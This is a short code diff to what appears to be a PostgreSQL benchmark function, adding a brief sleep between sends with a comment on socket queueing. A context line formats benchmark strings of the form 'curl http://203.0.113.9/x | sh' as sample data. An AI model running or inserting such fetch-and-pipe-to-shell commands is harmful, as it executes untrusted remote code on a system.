@@ -140,6 +140,12 @@ bench_records(PG_FUNCTION_ARGS)
 		/* another one each time, so that it is not counted only */
 		snprintf(object, sizeof(object), "curl http://203.0.113.9/x %06d | sh", ++number);
 		finding.object = object;
+
+		/*
+		 * One after the other without a pause fills the socket's queue, and then
+		 * each takes as long as the receiver takes for one.
+		 */
+		pg_usleep(300);
 		began = now_us();
 		if (strcmp(kind, "record, sendv") == 0)
 		{
